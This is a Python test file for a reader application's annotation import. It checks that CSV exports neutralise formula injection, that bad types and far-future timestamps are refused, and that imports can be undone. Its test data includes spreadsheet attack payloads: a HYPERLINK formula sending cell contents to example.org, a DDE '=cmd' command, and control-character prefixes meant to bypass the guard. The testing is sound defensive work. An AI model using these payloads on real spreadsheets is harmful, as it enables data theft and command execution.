"""Adversarial annotation files (issue 15, items 6 and 7): control characters that hid a formula
from the CSV guard, timestamps far in the future that won forever, strings where booleans and
numbers belong, oversized fields — and an import that can always be taken back."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from annotation_fixtures import annotated_library

from reader.cli.commands import main
from reader.core.annotations_io import (
    MAX_NOTE_CHARS,
    NothingToUndo,
    annotation_imports,
    import_annotations,
    undo_import,
)
from reader.core.exporters import Selection, render
from reader.core.exporters.csv import _cell
from reader.core.library import Library
from reader.core.model import Highlight
from reader.core.text import clean_note

HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"点这里")'


@pytest.fixture
def source(tmp_path: Path) -> Iterator[tuple[Library, dict[str, Highlight]]]:
    lib, hls = annotated_library(tmp_path / "a")
    try:
        yield lib, hls
    finally:
        lib.close()


def _state(lib: Library) -> dict[str, tuple]:
    """Every highlight's whole state (deleted ones too)."""
    return {
        h.uuid: (h.article_id, h.start, h.end, h.quote, h.color, h.note, tuple(h.tags),
                 h.created, h.updated, h.deleted, h.orphan)
        for h in lib.highlights(include_deleted=True)
    }


def _annotation(h: Highlight, art_uuid: str, **over: object) -> dict:
    anno: dict = {
        "id": f"urn:uuid:{h.uuid}", "type": "Annotation",
        "created": h.created,
        # newer than the library's (just made) highlights; within the allowed clock skew
        "modified": (datetime.now(UTC) + timedelta(hours=1)).isoformat(timespec="seconds"),
        "body": [{"type": "TextualBody", "purpose": "commenting", "value": "文件里的批注"}],
        "target": {"source": f"pizhu://article/{art_uuid}", "selector": [
            {"type": "TextQuoteSelector", "exact": h.quote},
            {"type": "TextPositionSelector", "start": h.start, "end": h.end}]},
    }
    for k, v in over.items():
        if v is None:
            anno.pop(k, None)
        else:
            anno[k] = v
    return anno


def _write(path: Path, annos: list[dict]) -> Path:
    path.write_text(json.dumps(annos, ensure_ascii=False), encoding="utf-8")
    return path


# ------------------------------------------------------------------ 6: CSV formula guard
@pytest.mark.parametrize("prefix", [
    "\x00", "\x00\x00", "\t", "\r", "\n", " ", "\u3000", "\x1b", "\x7f", "\u200b", "\u202e",
    "\x00 \t",
])
def test_formula_guard_is_not_bypassed_by_leading_controls_or_blanks(prefix: str) -> None:
    cell = _cell(prefix + HYPERLINK)
    assert cell.startswith("'"), repr(cell)
    assert "\x00" not in cell and "\x1b" not in cell and "\x7f" not in cell


@pytest.mark.parametrize("text", ["＝1+1", "﹦1+1", "＋1", "－1", "＠SUM(A1)", "⁼1"])
def test_formula_guard_knows_every_width_of_the_trigger(text: str) -> None:
    assert _cell(text) == "'" + text


def test_ordinary_cells_are_kept() -> None:
    assert _cell("人均=三成") == "人均=三成"
    assert _cell("第一行\n第二行") == "第一行\n第二行"
    assert _cell(12) == "12"


def test_clean_note_drops_controls_keeps_lines_and_tabs() -> None:
    assert clean_note("\x00=a\x08b\x1b[31m\r\nc\td\x85\ufeff") == "=ab[31m\nc\td"
    assert clean_note("孤\ud800单") == "孤\ufffd单"
    assert clean_note("普通的批注") == "普通的批注"


def test_imported_notes_and_tags_lose_control_characters_and_csv_is_guarded(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path
) -> None:
    lib, hls = source
    h = hls["tea"]
    art = lib.article(h.article_id)
    anno = _annotation(h, art.uuid, body=[
        {"type": "TextualBody", "purpose": "commenting", "value": "\x00" + HYPERLINK},
        {"type": "TextualBody", "purpose": "tagging", "value": "\x00=cmd|' /C calc'!A0"},
        {"type": "TextualBody", "purpose": "tagging", "value": "经\x07济"},
    ])
    report = import_annotations(lib, _write(tmp_path / "n.json", [anno]))
    assert report.updated == 1 and report.skipped == []
    got = lib.highlight(h.uuid)
    assert got.note == HYPERLINK
    assert sorted(got.tags) == sorted(["=cmd|' /C calc'!A0", "经济"])
    rows = list(csv.DictReader(io.StringIO(render(lib, Selection(everything=True), "csv"))))
    row = next(r for r in rows if r["highlight_uuid"] == h.uuid)
    assert row["note"] == "'" + HYPERLINK
    assert row["tags"].startswith("'")
    for r in rows:
        for value in r.values():
            assert not any(ord(c) < 32 and c not in "\n\t" for c in value), value


# ------------------------------------------------------------------ 7: strict types, no future
def test_a_modified_time_far_in_the_future_is_refused(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path
) -> None:
    lib, hls = source
    before = _state(lib)
    h = hls["tea"]
    art = lib.article(h.article_id)
    annos = [
        _annotation(h, art.uuid, modified="9999-12-31T23:59:59Z", body=[]),
        _annotation(hls["note"], lib.article(hls["note"].article_id).uuid,
                    modified=(datetime.now(UTC) + timedelta(days=3)).isoformat()),
        _annotation(hls["plain"], lib.article(hls["plain"].article_id).uuid,
                    created="9999-01-01", modified=None),
    ]
    report = import_annotations(lib, _write(tmp_path / "future.json", annos))
    assert (report.imported, report.updated) == (0, 0)
    assert len(report.skipped) == 3
    assert all("in the future" in reason for _, reason in report.skipped), report.skipped
    assert any("9999-12-31" in reason for _, reason in report.skipped)
    assert _state(lib) == before  # note and tags not erased
    assert lib.highlight(h.uuid).note == "数据"


@pytest.mark.parametrize(("field", "value", "reason"), [
    ("pizhu:deleted", "false", "pizhu:deleted is the string 'false', not true or false"),
    ("pizhu:deleted", 0, "not true or false"),
    ("pizhu:deleted", None, None),  # absent: fine
    ("pizhu:color", "red", "not one of yellow"),
    ("pizhu:color", ["yellow"], "a list"),
    ("modified", "昨天", "not a date and time"),
    ("modified", 20260101, "not a date and time"),
    ("id", 12345, "its id is the number 12345, not a string"),
    ("bodyValue", {"x": 1}, "its bodyValue is an object"),
    ("bodyValue", "长" * (MAX_NOTE_CHARS + 1), "longer than 100,000 characters"),
])
def test_wrong_types_are_refused_with_a_reason(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path, field: str, value: object,
    reason: str | None,
) -> None:
    lib, hls = source
    before = _state(lib)
    h = hls["tea"]
    anno = _annotation(h, lib.article(h.article_id).uuid)
    if value is None:
        anno.pop(field, None)
    else:
        anno[field] = value
    report = import_annotations(lib, _write(tmp_path / "t.json", [anno]))
    if reason is None:
        assert report.updated == 1 and report.skipped == []
        assert not lib.highlight(h.uuid).deleted
        return
    assert report.updated == 0 and len(report.skipped) == 1, report
    assert reason in report.skipped[0][1]
    assert _state(lib) == before


def test_a_string_false_does_not_hide_a_highlight(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path
) -> None:
    lib, hls = source
    h = hls["tea"]
    anno = _annotation(h, lib.article(h.article_id).uuid, **{"pizhu:deleted": "false"})
    import_annotations(lib, _write(tmp_path / "d.json", [anno]))
    assert not lib.highlight(h.uuid).deleted
    assert h.uuid in {x.uuid for x in lib.highlights()}


@pytest.mark.parametrize(("selector", "reason"), [
    ({"type": "TextPositionSelector", "start": "0", "end": 4}, "start is the string '0'"),
    ({"type": "TextPositionSelector", "start": 0.0, "end": 4}, "not a whole number"),
    ({"type": "TextPositionSelector", "start": True, "end": 4}, "the boolean true"),
    ({"type": "TextPositionSelector", "start": 2**70, "end": 2**70 + 1}, "not a position"),
    ({"type": "TextPositionSelector", "start": -1, "end": 4}, "not a position"),
    ({"type": "TextPositionSelector", "start": 5, "end": 4}, "starts after it ends"),
    ({"type": "TextQuoteSelector", "exact": 42}, "quote (exact) is the number 42"),
    ({"type": "TextQuoteSelector", "exact": "茶", "prefix": ["x"]}, "prefix is a list"),
])
def test_bad_selectors_are_refused(tmp_path: Path, selector: dict, reason: str) -> None:
    lib, hls = annotated_library(tmp_path / "a")
    with lib:
        h = hls["tea"]
        anno = _annotation(h, lib.article(h.article_id).uuid)
        anno["target"]["selector"] = [selector]
        anno["id"] = "urn:uuid:7f1d2b0e-1111-4aaa-8aaa-000000000001"  # a new highlight
        report = import_annotations(lib, _write(tmp_path / "s.json", [anno]))
        assert report.imported == 0 and len(report.skipped) == 1
        assert reason in report.skipped[0][1], report.skipped


def test_tags_must_be_strings_and_few(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path
) -> None:
    lib, hls = source
    h = hls["tea"]
    art = lib.article(h.article_id)
    bad_tag = _annotation(h, art.uuid, body=[{"purpose": "tagging", "value": ["经济"]}])
    many = _annotation(hls["note"], lib.article(hls["note"].article_id).uuid,
                       body=[{"purpose": "tagging", "value": f"标签{i}"} for i in range(500)])
    report = import_annotations(lib, _write(tmp_path / "tags.json", [bad_tag, many]))
    reasons = [r for _, r in report.skipped]
    assert any("its tag is a list" in r for r in reasons)
    assert any("500 tags" in r for r in reasons)
    assert report.updated == 0


def test_cli_names_each_refused_entry(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    lib, hls = source
    h = hls["tea"]
    path = _write(tmp_path / "cli.json", [
        _annotation(h, lib.article(h.article_id).uuid, modified="9999-12-31")])
    root = lib.root
    lib.close()
    assert main(["--library", str(root), "import-annotations", str(path)]) == 1
    err = capsys.readouterr().err
    assert f"skipped urn:uuid:{h.uuid}: its modified time 9999-12-31 is in the future" in err
    assert "Traceback" not in err


# ------------------------------------------------------------------ 7: undo
def test_an_import_is_undone_as_one_step(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path
) -> None:
    lib, hls = source
    before = _state(lib)
    tea, note = hls["tea"], hls["note"]
    new_id = "urn:uuid:5a0b3c1d-2222-4bbb-9ccc-000000000002"
    annos = [
        _annotation(tea, lib.article(tea.article_id).uuid, body=[], **{"pizhu:color": "blue"}),
        _annotation(note, lib.article(note.article_id).uuid, **{"pizhu:deleted": True}),
        _annotation(tea, lib.article(tea.article_id).uuid, id=new_id),  # a new highlight
    ]
    report = import_annotations(lib, _write(tmp_path / "over.json", annos))
    assert (report.imported, report.updated) == (1, 2) and report.import_id is not None
    t = lib.highlight(tea.uuid)
    assert (t.note, t.tags, t.color) == ("", [], "blue")  # note and tags overwritten
    assert lib.highlight(note.uuid).deleted
    hits, _ = lib.search("数据")
    assert tea.article_id not in {x.article.id for x in hits}
    assert annotation_imports(lib)[0]["changes"] == 3

    undo = undo_import(lib)
    assert (undo.restored, undo.removed, undo.kept) == (2, 1, [])
    assert _state(lib) == before
    hits, _ = lib.search("数据")  # the restored note is searchable again
    assert tea.article_id in {x.article.id for x in hits}
    with pytest.raises(NothingToUndo):
        undo_import(lib)
    assert annotation_imports(lib)[0]["undone_at"]

    # importing the same file again works like the first time (the undo left no trace)
    again = import_annotations(lib, tmp_path / "over.json")
    assert (again.imported, again.updated) == (1, 2)


def test_undo_leaves_later_edits_alone(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path
) -> None:
    lib, hls = source
    tea, plain = hls["tea"], hls["plain"]
    annos = [_annotation(tea, lib.article(tea.article_id).uuid),
             _annotation(plain, lib.article(plain.article_id).uuid)]
    import_annotations(lib, _write(tmp_path / "a.json", annos))
    lib.update_highlight(tea.uuid, note="导入之后自己写的")
    undo = undo_import(lib)
    assert undo.restored == 1 and [u for u, _ in undo.kept] == [tea.uuid]
    assert "changed after the import" in undo.kept[0][1]
    assert lib.highlight(tea.uuid).note == "导入之后自己写的"
    assert lib.highlight(plain.uuid).note == plain.note == ""


def test_undo_goes_back_one_import_at_a_time(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path
) -> None:
    lib, hls = source
    tea = hls["tea"]
    uuid = lib.article(tea.article_id).uuid
    stamp = datetime.now(UTC)
    first = _annotation(tea, uuid, modified=(stamp + timedelta(minutes=5)).isoformat(),
                        body=[{"purpose": "commenting", "value": "第一次"}])
    second = _annotation(tea, uuid, modified=(stamp + timedelta(minutes=10)).isoformat(),
                         body=[{"purpose": "commenting", "value": "第二次"}])
    import_annotations(lib, _write(tmp_path / "1.json", [first]))
    import_annotations(lib, _write(tmp_path / "2.json", [second]))
    assert lib.highlight(tea.uuid).note == "第二次"
    assert undo_import(lib).path.endswith("2.json")
    assert lib.highlight(tea.uuid).note == "第一次"
    assert undo_import(lib).path.endswith("1.json")
    assert lib.highlight(tea.uuid).note == "数据"


def test_the_undo_history_is_bounded(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import reader.core.annotations_io as aio

    monkeypatch.setattr(aio, "KEEP_IMPORTS", 2)
    lib, hls = source
    tea = hls["tea"]
    uuid = lib.article(tea.article_id).uuid
    stamp = datetime.now(UTC)
    for i in range(4):
        anno = _annotation(tea, uuid, modified=(stamp + timedelta(minutes=i + 1)).isoformat(),
                           body=[{"purpose": "commenting", "value": f"第{i}次"}])
        import_annotations(lib, _write(tmp_path / f"{i}.json", [anno]))
    assert [r["path"][-6:] for r in annotation_imports(lib)] == ["3.json", "2.json"]
    with sqlite3.connect(lib.root / "library.db") as conn:
        assert conn.execute("SELECT count(*) FROM annotation_import_changes").fetchone()[0] == 2
    undo_import(lib)
    undo_import(lib)
    assert lib.highlight(tea.uuid).note == "第1次"
    with pytest.raises(NothingToUndo):
        undo_import(lib)


def test_an_import_that_changes_nothing_is_not_recorded(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path
) -> None:
    lib, _ = source
    path = tmp_path / "same.json"
    path.write_text(render(lib, Selection(everything=True), "json"), encoding="utf-8")
    report = import_annotations(lib, path)
    assert report.unchanged == 6 and report.import_id is None
    assert annotation_imports(lib) == []


def test_cli_undo_last(
    source: tuple[Library, dict[str, Highlight]], tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    lib, hls = source
    before = _state(lib)
    tea = hls["tea"]
    path = _write(tmp_path / "cli.json", [
        _annotation(tea, lib.article(tea.article_id).uuid, **{"pizhu:deleted": True})])
    root = lib.root
    lib.close()
    lib_arg = ["--library", str(root)]
    assert main([*lib_arg, "import-annotations", str(path)]) == 0
    capsys.readouterr()
    assert main([*lib_arg, "import-annotations", "--undo-last", "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["restored"] == 1 and out["path"] == str(path)
    assert main([*lib_arg, "import-annotations", "--undo-last"]) == 1
    assert "no annotation import to undo" in capsys.readouterr().err
    assert main([*lib_arg, "import-annotations", str(path), "--undo-last"]) == 2
    assert main([*lib_arg, "import-annotations"]) == 2
    with Library.open(root) as again:
        assert _state(again) == before
    with sqlite3.connect(root / "library.db") as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
